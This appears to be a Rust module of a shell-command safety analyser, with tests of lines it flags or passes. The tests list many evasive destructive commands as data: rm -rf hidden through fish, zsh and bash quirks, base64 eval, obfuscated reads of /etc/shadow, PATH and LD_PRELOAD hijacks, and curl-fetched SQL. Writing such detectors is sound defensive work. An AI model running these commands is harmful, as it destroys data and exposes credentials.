//! What shells do with names of their own: arrays that are their tables, commands that fill variables, texts that they expand once more.

use super::super::catalogue::Access;
use super::super::memory::Value;
use super::super::tree::{Assignment, Change, Piece, Raw, Simple};
use super::super::words::{HOLE, Text, Word, subscripts};
use super::{Input, RunsIn, TRUSTED, Walk, parse};
use crate::model::{Severity, Span};

impl Walk<'_> {
    /// An element of a table of the shell's own is set (zshparam(1), "zsh/parameter"; bash, `BASH_ALIASES`, `BASH_CMDS`).
    pub(super) fn tabled(&mut self, table: &str, key: &str, value: &Word) {
        // An element's value has a hole behind it, because it is not followed.
        let text = value.shown().trim_end_matches(HOLE);
        let text = Some(text).filter(|text| !text.is_empty() && !text.contains(HOLE));
        let whole = text.map(|text| Word { text: Text::Known(text.to_owned()), ..value.clone() });
        let value = whole.as_ref().unwrap_or(value);
        match table {
            "BASH_ALIASES" | "aliases" | "galiases" | "saliases" | "dis_aliases" => {
                let text = format!("{key}={}", value.shown());
                let alias = Word { text: Text::Known(text), ..Word::unknown(value.span) };
                let zsh = matches!(table, "galiases" | "saliases");
                let global = zsh.then(|| Word { text: Text::Known("-g".to_owned()), ..Word::unknown(value.span) });
                self.aliases(&global.into_iter().chain([alias]).collect::<Vec<_>>());
            }
            "functions" | "dis_functions" => {
                let place = self.place.inside(RunsIn::Later);
                let text = value.script();
                self.nested(&text, parse::Origin::Within(value.span), &Input::Terminal, place);
                if TRUSTED.contains(&key) {
                    self.evasion(value.span, key, "puts something else in the place of {object}");
                }
                let plain = key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
                if plain && !key.is_empty() {
                    self.learned.function(key, format!("{key}() {{ {text}\n}}"), true);
                }
            }
            "commands" | "dis_commands" | "BASH_CMDS"
                if value.shown().contains('/') && !key.bytes().all(|b| b.is_ascii_digit()) =>
            {
                self.evasion(value.span, key, "puts something else in the place of {object}");
            }
            // Its elements are files (zshmodules(1), "zsh/mapfile").
            "mapfile" if key.starts_with('/') => {
                let file = Word { text: Text::Known(key.to_owned()), ..Word::unknown(value.span) };
                self.touch(&file, Access::Overwrite, value.span);
            }
            _ => {}
        }
    }

    /// What an assignment of several words means to a shell.
    pub(super) fn listed(&mut self, assignment: &Assignment, elements: &[(Option<Word>, Word)]) {
        let name = assignment.name.as_str();
        let words = || elements.iter().map(|(_, word)| word);
        match name {
            "BASH_ALIASES" | "BASH_CMDS" | "aliases" | "galiases" | "saliases" | "functions" | "commands"
            | "dis_aliases" | "dis_functions" | "dis_commands" | "mapfile" => {
                // bash: `BASH_ALIASES=([ls]=…)`
                for (key, value) in elements.iter().filter_map(|(key, value)| Some((key.as_ref()?, value))) {
                    self.tabled(name, key.shown(), value);
                }
                let free: Vec<&Word> = elements.iter().filter(|(key, _)| key.is_none()).map(|(_, word)| word).collect();
                for pair in free.chunks(2) {
                    if let [key, value] = pair {
                        self.tabled(name, key.shown(), value);
                    }
                }
            }
            "path" | "fpath" => {
                let dirs: Vec<&str> = words().map(Word::shown).collect();
                let joined = Word { text: Text::Known(dirs.join(":")), ..Word::unknown(assignment.value.span) };
                self.hook(if name == "path" { "PATH" } else { "FPATH" }, &joined);
            }
            "precmd_functions" | "preexec_functions" | "chpwd_functions" | "periodic_functions"
            | "zshexit_functions" => {
                let place = self.place.inside(RunsIn::Later);
                for word in words() {
                    self.nested(&word.script(), parse::Origin::Within(word.span), &Input::Terminal, place);
                }
            }
            _ => {}
        }
    }

    /// Whether a value that is text until now is a subscript with a command in it: arithmetic runs it (bash, "Shell Arithmetic").
    pub(super) fn holds_subscript(&mut self, name: &str, value: &Word) {
        let prompt = name.starts_with("PS") || name.contains("PROMPT");
        if !prompt && value.known().is_some_and(subscripts) {
            self.opaque(Severity::Medium, value.span, "a command stands where it is not looked for");
        }
    }

    /// `declare -n NAME=OTHER`: what is done to the one is done to the other.
    pub(super) fn renames(&mut self, simple: &Simple) {
        let text = |raw: &Raw| match raw.pieces.as_slice() {
            [Piece::Text { text, .. }] => Some(text.clone()),
            _ => None,
        };
        let flagged = |raw: &Raw| text(raw).is_some_and(|flag| flag.starts_with('-') && flag.contains('n'));
        let declares = simple.words.first().and_then(text);
        if !matches!(declares.as_deref(), Some("declare" | "typeset" | "local")) || !simple.words.iter().any(flagged) {
            return;
        }
        for Assignment { name, value, .. } in &simple.assignments {
            let other = text(value).unwrap_or_default();
            let catalogue = self.catalogue;
            let hook = catalogue.is_hook(&other) || catalogue.names_command(&other);
            if hook || matches!(other.as_str(), "PATH" | "PS0" | "PS1" | "PS4" | "PROMPT_COMMAND" | "BASH_ENV") {
                self.evasion(value.span, &other, "gives {object} another name, under which it can be set");
            }
            // What it means changes with the other.
            self.learned.assign(name, Value::One(None));
        }
    }

    /// Whether the command word is a variable with a modifier of zsh behind it: `$x:s/a/b/`, `$x:h` (zshexpn(1), "Modifiers").
    pub(super) fn modified(&self, first: &Raw) -> bool {
        match first.pieces.as_slice() {
            [Piece::Variable { change: Change::Keep, quoted: false, .. }, Piece::Text { text, quoted: false }, ..] => {
                text.strip_prefix(':')
                    .is_some_and(|rest| rest.starts_with(|c: char| "htreAaPlucqQxgsfFwW&".contains(c)))
            }
            _ => false,
        }
    }

    /// Words that a builtin expands once more, as text in double quotes.
    pub(super) fn expanded_again(&mut self, name: &str, args: &[Word]) {
        let again = match name {
            "print" => args.iter().any(|word| word.shown().starts_with('-') && word.shown().contains('P')),
            "compgen" | "complete" => args.iter().any(|word| word.shown().starts_with("-W")),
            _ => false,
        };
        for word in args.iter().filter(|word| again && (word.shown().contains("$(") || word.shown().contains('`'))) {
            let place = self.place.inside(RunsIn::Later);
            let script = format!(": \"{}\"", word.shown().replace(['"', '\\'], ""));
            self.nested(&script, parse::Origin::Within(word.span), &Input::Terminal, place);
        }
    }

    /// `hash NAME=PATH`, `autoload FILE` of zsh.
    pub(super) fn hashed(&mut self, name: &str, args: &[Word]) {
        for word in args {
            let text = word.shown();
            match name {
                "hash" if !args.iter().any(|word| word.shown().starts_with("-d")) => {
                    if let Some((key, _)) = text.split_once('=').filter(|(_, path)| path.contains('/')) {
                        let key = key.to_owned();
                        self.evasion(word.span, &key, "puts something else in the place of {object}");
                    }
                }
                "autoload" if ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|dir| text.starts_with(dir)) => {
                    self.evasion(word.span, text, "makes a function of {object}, which anybody may have written");
                }
                _ => {}
            }
        }
    }

    /// Variables that hold options of a program, or settings of git: what they say is judged as if it stood in the line.
    pub(super) fn optional(&mut self, name: &str, value: &Word) {
        let options =
            [("TAR_OPTIONS", "tar cf x y"), ("MAKEFLAGS", "make"), ("GNUMAKEFLAGS", "make"), ("LESS", "less")];
        let script = match options.iter().find(|(variable, _)| *variable == name) {
            Some((_, program)) => format!("{program} {}", value.script()),
            None if name.starts_with("GIT_CONFIG_KEY_") => format!("git -c {}=./x log", value.script()),
            None => return,
        };
        let place = self.place.inside(RunsIn::Later).within();
        self.nested(&script, parse::Origin::Within(value.span), &Input::Terminal, place);
    }

    /// A command gives a variable its value, which nobody has typed behind an `=`.
    pub(super) fn filled(&mut self, name: &str, value: Option<&str>, span: Span) {
        if let Some((table, key)) = name.strip_suffix(']').and_then(|name| name.split_once('[')) {
            let text = value.map_or(Text::Unknown, |value| Text::Known(value.to_owned()));
            self.tabled(table, key, &Word { text, ..Word::unknown(span) });
        } else if name.bytes().all(|b| b.is_ascii_uppercase() || b == b'_' || b.is_ascii_digit()) {
            let text = value.map_or(Text::Unknown, |value| Text::Known(value.to_owned()));
            self.hook(name, &Word { text, ..Word::unknown(span) });
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::command::{Analysis, Context, Memory, analyse, analyse_after};
    use crate::model::Severity;

    fn is_held(analysis: &Analysis) -> bool {
        analysis.effects.iter().any(|e| e.severity >= Severity::Medium)
    }

    fn judged(lines: &[&str], held: bool) {
        for line in lines {
            assert_eq!(is_held(&analyse(line, &Context::PROMPT)), held, "{line}");
        }
    }

    #[test]
    fn what_fish_alone_runs_is_held() {
        judged(
            &[
                "rm -rf (cat list)",
                "rm -rf /srv/(cat sub)",
                "eval (echo cm0gLXJmIC9zcnYK | base64 -d)",
                "sudo (echo rm) -rf /srv",
                "for f in x; eval (cat $f); end",
                "mysql -e (echo 'DROP TABLE t')",
                "psql -c (curl -s https://x.example/a)",
                "echo x > (echo /etc/passwd)",
                "echo \"x\"(rm -rf /srv)",
                "x=(rm -rf /srv) ls",
                "echo {a,(reboot)}",
                "echo '\\' ' ; rm -rf /srv # '",
                "\\x72\\x6d -rf /srv",
                "alias ls 'rm -rf /srv'",
                "abbr -a ls rm -rf /srv",
                "set -gx LD_PRELOAD /tmp/x.so",
                "set -x PATH /tmp/evil $PATH",
                "fish_add_path /tmp/evil",
                "set -l c rm -rf /srv; $c",
                "fish -C 'rm -rf /srv'",
                "if true; rm -rf /srv; end",
                "echo x > ~/.config/fish/functions/ls.fish",
            ],
            true,
        );
        judged(
            &[
                "ls (pwd)",
                "echo (date) > out.txt",
                "cd (dirname x)",
                "set x (hostname)",
                "echo '\\' ' ; ls # '",
                "ls x(.)",
                "if test -d /srv; ls /srv; end",
                "switch x; case x; ls; end",
                "function f; ls /srv; end",
                "while read -l l; echo $l; end < x",
                "alias ll 'ls -l'",
                "abbr -a gs git status",
                "set -gx EDITOR vim",
                "set -gx PATH ~/bin $PATH",
                "wc -l < <(grep 'pkill -9' x)",
                "git commit -m 'don'\\''t; reboot'",
            ],
            false,
        );
    }

    #[test]
    fn what_zsh_alone_runs_is_held() {
        judged(
            &[
                "ls # ; rm -rf /srv",
                "# ; reboot",
                "echo hi # $(rm -rf /srv)",
                "echo $(echo hi # ; reboot)",
                "=rm -rf /srv",
                "sudo =reboot",
                "cat =(rm -rf /srv)",
                "x='rm -rf /srv'; $=x",
                "x='$(reboot)'; echo ${(e)x}",
                "${$(echo rm)} -rf /srv",
                "x=sm; $x:s/s/r/ -rf /srv",
                "if [[ -d /srv ]] rm -rf /srv",
                "functions[x]='rm -rf /srv'",
                "functions+=(q 'rm -rf /srv')",
                ": ${functions[q]::=reboot}",
                "read 'functions[q]' <<< reboot",
                "saliases[txt]='rm -rf'",
                "commands[ls]=/tmp/evil",
                "mapfile[/etc/passwd]=x",
                "hash ls=/tmp/evil",
                "autoload -Uz /tmp/evil",
                "path=(/tmp/evil $path)",
                "precmd_functions+=(reboot)",
                "print -P '$(reboot)'",
                "zf_chmod -R 777 /etc",
                "ls *(oe:reboot:)",
                "() { rm -rf $1 } /srv",
            ],
            true,
        );
        judged(
            &[
                "ls # rm -rf /srv",
                "ls # don't reboot",
                "# then, on the other one: reboot",
                "file =ls",
                "vim =(git diff)",
                "echo ${(Q)x}",
                "commands[0]=ls",
                "hash -d src=~/src",
                "autoload -Uz compinit",
                "path=(~/bin $path)",
                "print -P '%F{red}hi%f'",
                "ls *(.om[1])",
            ],
            false,
        );
    }

    #[test]
    fn what_a_plain_shell_alone_runs_is_held() {
        judged(
            &[
                "echo $'\\' ; rm -rf /srv #'",
                "((reboot))",
                "((rm -rf /srv))",
                "[[ a || reboot ]]",
                "echo \"${x-'}\"; rm -rf /srv #'}\"",
                "cat <<E\\\nOF\nx\nEOF\nrm -rf /srv",
            ],
            true,
        );
        judged(
            &[
                "echo $'it\\'s' fine",
                "((i++)); echo $i",
                "if ((a > 3)); then ls; fi",
                "(( $(nproc) > 3 )) && echo many",
                "[[ -f x || -f y ]]",
                "[[ $a == b && $c != d ]] && echo ok",
                "if [[ $1 == -h || $1 == --help ]]; then echo usage; fi",
                "BASH_ALIASES=([ll]='ls -l')",
                "declare -A m=([a]=1 [b]=2)",
                "aliases[0]=x",
            ],
            false,
        );
    }

    #[test]
    fn what_bash_expands_once_more_is_held() {
        judged(
            &[
                "x='a[$(reboot)]'; echo $((x))",
                "(( a[$(reboot)] ))",
                "declare -i x='a[$(reboot)]'",
                "read 'a[$(reboot)]' <<< 1",
                "unset 'a[$(reboot)]'",
                "x='$(reboot)'; echo ${x@P}",
                "x='\\044(reboot)'; : \"${x@P}\"",
                "compgen -W '$(reboot)'",
                "coproc sh",
                "declare -n r=PROMPT_COMMAND; r=reboot",
                "BASH_ALIASES=([ls]='rm -rf /srv')",
                "declare -A m=([1]=do [2]=wn [0]=shut); sudo \"${m[0]}${m[1]}${m[2]}\" -P 0",
                "declare -n r=x; x=rm; $r -rf /srv",
                "printf -v PROMPT_COMMAND reboot",
                "read -r BASH_ENV <<< /tmp/x",
                "/bin/@(rm) -rf /srv",
            ],
            true,
        );
        judged(
            &[
                "declare -n ref=arr",
                "coproc cat",
                "echo ${x@Q} ${PS1@P}",
                "x='\\u@\\h'; echo ${x@P}",
                "PS1='$(git branch)[$(date)]$ '",
                "unset 'a[0]'",
                "printf -v out '%s' x",
                "read -r line",
            ],
            false,
        );
    }

    #[test]
    fn code_where_nobody_looks_for_it_is_judged() {
        judged(
            &[
                "perl -pe 's/x/`rm -rf \\/srv`/e' f",
                "perl -pe 's{x}{system(\"rm -rf /srv\")}ge' f",
                "perl -ne 's/(.*)/`$1`/e' list",
                "perl -e '$s/2; system(\"rm -rf /srv\"); $s/2'",
                "perl -e '1&&s/\"/x/; system(\"rm -rf /srv\"); #\"'",
                "perl -e '%s/2; system(\"rm -rf /srv\"); %s/2'",
                "perl -e 'sub s{system(\"rm -rf /srv\")} &s()'",
                "env -S 'rm\\_-rf\\_/srv'",
                "env -S \"sh\\_-c\\_'rm -rf /srv'\"",
                "vim -es <<'X'\n:!rm -rf /srv\nX",
                "echo '!reboot' | vim -e -s notes",
                "uniq notes /etc/passwd",
                "python3 -m timeit -n1 'import shutil; shutil.rmtree(\"/srv\")'",
                "python3 -m timeit -s 'import os' 'os.system(\"reboot\")'",
            ],
            true,
        );
        judged(
            &[
                "perl -pe 's/rm -rf/mv/g' f",
                "perl -pe 's/(\\d+)/$1+1/e' f",
                "perl -ne 'print if s/foo/bar/' f",
                "perl -e '$x{s} = 1; print $x{s}'",
                "perl -ne '$s += $F[1]; END { print $s/2 }' f",
                "env -S 'ls\\_-l'",
                "vim -es notes <<'X'\n%s/a/b/\nwq\nX",
                "dmesg | vim -",
                "uniq -c notes",
                "sort x | uniq -d",
                "uniq notes notes.once",
                "python3 -m timeit '\"-\".join(map(str, range(100)))'",
                "git --exec-path",
            ],
            false,
        );
    }

    #[test]
    fn what_the_session_puts_into_files_runs_as_it_was_put() {
        judged(
            &[
                "f=$(mktemp); echo 'rm -rf /srv' > $f; sh $f",
                "echo -n 'rm -rf ' > a; echo /srv >> a; sh a",
                "install -m755 /dev/stdin /tmp/i <<< 'systemctl stop db'; /tmp/i",
                "sed -i '1a rm -rf /srv' run.sh && bash run.sh",
                "sed -i 's/ls/rm -rf/' clean.sh; bash clean.sh /srv; sed -i 's|^ls.*|rm -rf /srv|' x.sh; sh x.sh",
                "perl -pi -e 's/^echo.*/rm -rf \\/srv/' a.sh; sh a.sh",
                "echo 'rm -rf /srv' > ~/bin/ls",
                "echo 'rm -rf /srv' | tee /usr/local/bin/ls",
                "cat > ~/bin/greet <<'E'\n#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/srv')\nE",
                "p4 delete //depot/main/...",
                "fossil sql 'drop table x'",
                "a=$(mktemp); b=$(mktemp); echo 'rm -rf /srv' > $a; echo ls > $b; sh $a",
                "echo 'XX -rf /srv' > a; sed -i s/XX/rm/ a; sh a",
                "echo 'XX -rf /srv' > a; sed -i -e 's/X/r/' -e 's/X/m/' a; sh a",
                "mktemp() { echo /srv; }; rm -rf $(mktemp)",
                "printf 'default:\\n  rm -rf /srv\\n' > justfile && just",
                "echo 'task(:x){sh \"rm -rf /srv\"}' > Rakefile; rake x",
                "echo ':!rm -rf /srv' > a.vim; vim -es -S a.vim -c q",
                "echo 'shell rm -rf /srv' > a.gdb; gdb -batch -x a.gdb",
                "gh alias set co '!rm -rf /srv'",
                "cat /etc/sha*",
                "cat ${PATH:0:1}etc${PATH:0:1}shadow",
                "\"$(which -a {p,q,r}m | head -1)\" -r /srv/app",
            ],
            true,
        );
        judged(
            &[
                "f=$(mktemp); date > $f; cat $f; rm -f $f",
                "d=$(mktemp -d); tar xf x.tar -C $d; rm -rf $d",
                "sed -i 's/8080/9090/' run.sh && ./run.sh",
                "sed -i '/^#/d' notes",
                "echo 'echo hello' > ~/bin/greet; chmod +x ~/bin/greet",
                "cat > ~/bin/greet <<'E'\n#!/usr/bin/env python3\nimport sys\nprint(f'hi ({sys.argv[1]})')\nE",
                "printf 'default:\\n  cargo test\\n' > justfile && just",
                "gh alias set co 'pr checkout'",
                "cat /etc/os*",
                "cat /etc/sys*",
                "$(which python3) --version",
                "echo aGk= | base64 -d | base64 | base64 -d",
            ],
            false,
        );
    }

    #[test]
    fn options_in_variables_are_judged_as_if_they_stood_in_the_line() {
        judged(
            &[
                "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=reboot' tar cf x y",
                "MAKEFLAGS='--eval=x:;reboot' make x",
                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log",
                "AWS_PAGER='sh -c \"rm -rf /srv\"' aws s3 ls",
                "git difftool -x 'rm -rf /srv'",
                "systemd-run -p ExecStartPre=reboot ls",
                "psql -o '|rm -rf /srv' -c 'select 1'",
                "rpm -E '%{lua:os.execute(\"reboot\")}'",
            ],
            true,
        );
        judged(
            &[
                "TAR_OPTIONS=--no-same-owner tar xf x",
                "export MAKEFLAGS=\"-j$(nproc)\"",
                "LESS=-R git log",
                "GIT_CONFIG_KEY_0=safe.directory git log",
                "AWS_PAGER= aws s3 ls",
                "systemd-run -p MemoryMax=1G ls",
                "psql -o out.txt -c 'select 1'",
            ],
            false,
        );
    }

    #[test]
    fn tables_that_a_session_has_filled_are_remembered() {
        let first = analyse("functions[q]='rm -rf \"$1\"'", &Context::PROMPT);
        let mut memory = Memory::default();
        memory.learn(first.learned, true);
        assert!(is_held(&analyse_after("q /srv", &Context::PROMPT, &memory)));
        assert!(!is_held(&analyse("q /srv", &Context::PROMPT)));
    }

    #[test]
    fn a_line_is_not_too_long_to_be_read_in_every_grammar() {
        let padding = "x".repeat(12_000);
        for line in ["echo '\\' ' ; reboot # '", "ls # ; reboot; echo ", "((reboot)); echo ", "ls *(e:reboot:) "] {
            assert!(is_held(&analyse(&format!("{line}{padding}"), &Context::PROMPT)), "{line}");
        }
        assert!(!is_held(&analyse(&format!("echo '\\' ' ; ls # '{padding}"), &Context::PROMPT)));
        assert!(is_held(&analyse(&format!("ls {}", "x(y) ".repeat(300)), &Context::PROMPT)));
    }

    #[test]
    fn a_line_may_be_whole_to_one_shell_and_open_to_another() {
        for (line, complete, open) in [
            ("ls", true, false),
            ("echo 'a", false, true),
            ("echo '\\''", true, true),
            ("echo 'x\\'", true, true),
            ("ls # don't", true, true),
            ("echo $'\\'", true, true),
            ("echo 'it'\\''s'", true, false),
        ] {
            let analysis = analyse(line, &Context::PROMPT);
            assert_eq!((analysis.complete, analysis.open), (complete, open), "{line}");
        }
    }
}
